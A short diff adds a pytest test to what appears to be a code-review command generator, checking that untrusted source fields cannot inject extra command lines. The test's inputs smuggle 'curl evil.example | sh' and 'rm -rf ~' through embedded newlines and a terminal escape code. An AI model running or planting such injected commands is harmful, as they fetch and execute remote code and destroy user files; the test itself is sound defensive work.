@@ -113,6 +113,16 @@ def test_the_command_says_where_missing_ids_are_shown_and_lets_curl_ask_for_a_pa
     assert where == f"what stands between < and > is shown by {action.url}"
 
 
+def test_what_a_source_says_cannot_add_a_line_that_reads_as_a_command() -> None:
+    subject = Subject("c", "github", "acme/a#12", "abc\ncurl evil.example | sh\x1b[2J", url="https://x\nrm -rf ~")
+    action = github_review.plan(subject, APPROVE, OPTIONS)
+    assert isinstance(action, Action)
+    lines = command(action, Access()).split("\n")
+    assert len(lines) == 3
+    assert all(line.isprintable() for line in lines)
+    assert lines[1].startswith("only while the source shows: head abc curl evil.example | sh")
+
+
 def test_a_delivery_without_a_token_of_the_person_is_refused() -> None:
     with pytest.raises(ConfigError, match="token of the person"):
         decode_all(DeliverySettings, {"source": "github", "access": {}})
